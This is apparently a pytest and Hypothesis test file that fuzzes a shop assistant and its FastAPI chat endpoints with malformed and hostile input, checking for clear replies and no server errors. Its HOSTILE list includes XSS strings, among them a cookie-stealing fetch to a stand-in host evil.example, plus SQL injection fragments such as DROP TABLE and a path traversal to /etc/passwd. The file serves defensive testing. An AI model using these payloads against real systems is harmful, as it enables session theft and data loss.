"""Bad input, property-based (issue 10): whatever a shopper or a client sends - random unicode, control
and invisible characters, lone surrogates, 100 kB messages, empty and whitespace-only messages, HTML and
script, SQL fragments, malformed JSON, wrong JSON types - the assistant and the HTTP API answer with a
clear message, never a 5xx or a traceback, and the same session answers a normal message afterwards.

Through the orchestrator with the fakes (``make_assistant``) and through the HTTP API (TestClient over
app/api.py). Example counts are kept modest so the fast suite stays fast.
"""

from __future__ import annotations

import itertools
import json

import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from app import smalltalk, templates
from app.api import create_app
from app.db import Order
from app.factory import Mode
from app.schema import Message
from app.text import visible_text

FAST = settings(max_examples=60, deadline=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
LIMIT = 2000  # max_message_chars (the default, set explicitly so the property reads plainly)

HOSTILE = [
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
    "javascript:alert(1)",
    "'; DROP TABLE orders; --",
    "SD-20001' OR '1'='1",
    "ada@example.com' UNION SELECT email, zip FROM customers --",
    "1; UPDATE orders SET status='cancelled' WHERE 1=1",
    "{{7*7}} ${7*7} %s %n",
    "\x00\x00\x00",
    "\u202eredro ym si erehw",
    "\ufeff\u200b\u2060",
    "../../../../etc/passwd",
    "SD-" + "9" * 500,
]
CONTROL = st.characters(categories=["Cc", "Cf", "Zs", "Zl", "Zp"])


def long_text(unit: str, size: int) -> str:
    unit = unit or "x"
    return (unit * (size // len(unit) + 1))[:size]


MESSAGES = st.one_of(
    st.text(max_size=300),  # any unicode (no surrogates)
    st.text(alphabet=CONTROL, max_size=40),  # only control, format and whitespace characters
    st.text(alphabet=st.one_of(st.characters(categories=["Cs"]), st.characters()), max_size=40),  # lone surrogates
    st.sampled_from(HOSTILE),
    st.lists(st.one_of(st.sampled_from(HOSTILE), st.text(max_size=15), CONTROL), max_size=8).map("".join),
    st.builds(long_text, st.text(min_size=1, max_size=8), st.integers(LIMIT - 5, 100_000)),  # up to 100 kB
)


def order_count(engine) -> int:
    with Session(engine) as s:
        return s.scalar(select(func.count()).select_from(Order))


# ---- the orchestrator --------------------------------------------------------------------------------
@pytest.fixture()
def assistant(make_assistant):
    return make_assistant(max_message_chars=LIMIT)


@FAST
@given(text=MESSAGES)
@example(text="")
@example(text=" \t\r\n\u00a0\u3000\u2028")
@example(text="x" * 100_000)
@example(text="\ud83d where is my order")
def test_any_message_gets_a_clear_reply_and_the_session_goes_on(assistant, text):
    session = f"s{next(_sessions)}"
    orders = order_count(assistant.c.sessions.engine)
    r = assistant.respond(Message(session, text))
    assert r.text.strip() and "Traceback" not in r.text and 'File "' not in r.text
    assert "<script" not in r.text.lower() and "onerror" not in r.text.lower()  # nothing echoed as markup
    cleaned = visible_text(text)
    if not cleaned:
        assert r.text == templates.EMPTY_MESSAGE
    elif len(cleaned) > LIMIT:
        assert r.text == templates.TOO_LONG.format(length=len(cleaned), limit=LIMIT) and r.route == "invalid_input"
    # hostile strings pieced together can name the test shop's order SD-20001 and its owner's email: that
    # is a genuine verification (found by hypothesis: "ada@example.com SD20001"), anything else is not
    genuine = "ada@example.com" in cleaned.lower() and "20001" in cleaned
    assert not r.actions and (not r.verified or genuine)
    # the same session still answers a normal message (inside a flow the junk started, e.g. "where is my
    # order", the flow's next question is the normal answer)
    in_flow = assistant.c.sessions.load(session).flow is not None
    after = assistant.respond(Message(session, "hi"))
    assert after.turn_id is not None and after.text.strip()
    if not in_flow:
        assert after.route == "smalltalk" and after.text == GREETING
    assert order_count(assistant.c.sessions.engine) == orders  # no SQL fragment reached the database as SQL


_sessions = itertools.count()
GREETING = templates.render(smalltalk.smalltalk("smalltalk.greeting", "Fern & Field"))


def test_visible_text_drops_invisible_characters_and_keeps_the_words():
    assert visible_text("  whe\u200bre is\x00 my ord\u202eer\ufeff ") == "where is my order"
    assert visible_text("line one\u2028line two") == "line one line two"
    assert visible_text("\ud800 SD-20001") == "? SD-20001"  # a lone surrogate cannot be stored
    assert visible_text("\u200b\u2060\x07 \t") == ""
    assert visible_text("émoji 👍 and 中文") == "émoji 👍 and 中文"


# ---- the HTTP API --------------------------------------------------------------------------------------
@pytest.fixture()
def api(settings, make_assistant):
    s = settings.replace(rate_limit_per_minute=0, max_message_chars=LIMIT)
    assistant = make_assistant(max_message_chars=LIMIT)
    client = TestClient(create_app(s, Mode(fake_models=True), warm=False, assistant=assistant),
                        raise_server_exceptions=False)
    first = client.post("/api/v1/chat", json={"message": "hi"})
    assert first.status_code == 200
    data = first.json()
    return client, data["session_id"], {"X-Session-Token": data["session_token"]}


def json_values(max_leaves: int = 6):
    scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(max_size=20))
    return st.recursive(scalars, lambda inner: st.one_of(st.lists(inner, max_size=3),
                                                         st.dictionaries(st.text(max_size=8), inner, max_size=3)),
                        max_leaves=max_leaves)


WRONG_SHAPES = st.one_of(
    json_values(),  # any JSON at all: a list, a number, a string, null, ...
    st.fixed_dictionaries({"message": json_values().filter(lambda v: not isinstance(v, str))}),  # wrong type
    st.fixed_dictionaries({"message": st.text(max_size=50)},
                          optional={"session_id": json_values(), "customer_token": json_values(),
                                    "channel": json_values(), "extra": json_values()}),
)
BODIES = st.one_of(
    WRONG_SHAPES.map(lambda v: json.dumps(v).encode()),
    st.binary(max_size=300),  # not JSON, or not UTF-8
    st.text(max_size=200).map(lambda t: t.encode("utf-8")),
    st.sampled_from([b"", b"{", b'{"message": ', b'{"message": "hi"', b"null", b"[]", b'{"message": "hi"}}',
                     b"{'message': 'hi'}", b'{"message": NaN}', b'{"message": "\\ud800"}',
                     b'{"message": "a\\u0000b"}', b'{"message": "\xff\xfe"}', b"[" * 10_000 + b"]" * 10_000,
                     b'{"message": "' + b"x" * 100_000 + b'"}']),
)


CONTENT_TYPES = ["application/json", "text/plain", "application/x-www-form-urlencoded"]


def assert_clear(r) -> None:
    assert r.status_code < 500, r.text
    assert "Traceback" not in r.text and 'File "' not in r.text
    body = r.json()
    if r.status_code >= 400:
        assert isinstance(body.get("error"), str) and len(body["error"]) > 10
    else:
        assert body["text"].strip()


@FAST
@given(body=BODIES, content_type=st.sampled_from(CONTENT_TYPES))
@example(body=b'{"message": "\\ud800 where is my order"}', content_type="application/json")  # lone surrogate
@example(body=b'{"message": "a\\u0000b"}', content_type="application/json")  # NUL
@example(body=b"[" * 8_000 + b"]" * 8_000, content_type="application/json")  # deep nesting
@example(body=b'{"message": "' + b"x" * 100_000 + b'"}', content_type="application/json")  # 100 kB
@example(body=b'{"message": "   "}', content_type="application/json")
def test_any_request_body_gets_a_clear_answer_and_the_session_goes_on(api, body, content_type):
    client, session_id, headers = api
    r = client.post("/api/v1/chat", content=body, headers={**headers, "Content-Type": content_type})
    assert_clear(r)
    after = client.post("/api/v1/chat", json={"session_id": session_id, "message": "hi"}, headers=headers)
    assert after.status_code == 200 and after.json()["route"] == "smalltalk"


@FAST
@given(text=MESSAGES)
def test_any_message_in_a_valid_request_gets_a_clear_answer(api, text):
    client, session_id, headers = api
    r = client.post("/api/v1/chat", json={"session_id": session_id, "message": text}, headers=headers)
    assert_clear(r)
    if r.status_code == 200:
        assert "<script" not in r.json()["text"].lower()


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=MESSAGES)
def test_any_message_streamed_ends_with_a_reply_event(api, text):
    client, session_id, headers = api
    r = client.post("/api/v1/chat/stream", json={"session_id": session_id, "message": text}, headers=headers)
    if r.status_code != 200:  # refused before streaming (e.g. over the size limit): a JSON error
        assert_clear(r)
        return
    frames = [f for f in r.text.strip().split("\n\n") if f]
    events = [dict(line.split(": ", 1) for line in f.splitlines()) for f in frames]
    assert events[0]["event"] == "session" and events[-1]["event"] == "reply"
    assert json.loads(events[-1]["data"])["text"].strip() and "Traceback" not in r.text


def test_feedback_and_transcript_with_bad_input_answer_clearly(api):
    client, session_id, headers = api
    bad = [client.post("/api/v1/feedback", content=b"{", headers={**headers, "Content-Type": "application/json"}),
           client.post("/api/v1/feedback", json={"session_id": session_id, "rating": 5}, headers=headers),
           client.post("/api/v1/feedback", json={"session_id": session_id, "rating": "up", "turn_id": "x"},
                       headers=headers),
           client.post("/api/v1/feedback", json={"session_id": session_id, "rating": "up", "turn_id": 10**30},
                       headers=headers),
           client.get("/api/v1/sessions/" + "%00%ff<script>", headers=headers),
           client.get("/api/v1/sessions/" + "x" * 5000, headers=headers)]
    for r in bad:
        assert 400 <= r.status_code < 500, (r.status_code, r.text)
        assert_clear(r)
